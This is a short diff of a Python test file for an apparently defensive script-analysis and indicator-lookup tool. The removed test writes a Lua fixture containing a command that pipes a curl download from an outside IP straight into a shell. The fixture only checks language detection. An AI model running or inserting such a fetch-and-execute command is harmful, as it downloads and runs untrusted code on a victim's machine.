@@ -97,14 +97,6 @@ def test_what_is_a_list(text: str, expected: bool) -> None:
     assert is_list(text) is expected
 
 
-def test_a_lua_file_says_that_it_is_lua(tmp_path: Path) -> None:
-    script = tmp_path / "a.lua"
-    script.write_text("os.execute('curl http://203.0.113.9/a | sh')")
-    done = perilune("analyze", script)
-    assert "Lua" in done.stdout.decode()
-    assert json.loads(perilune("analyze", "--json", script).stdout)["analyses"][0]["layers"][0]["language"] == "lua"
-
-
 def test_a_list_is_looked_up_in(tmp_path: Path) -> None:
     mine = tmp_path / "mine.csv"
     mine.write_text("indicator,date\n203.0.113.9,2026-01-01\n")
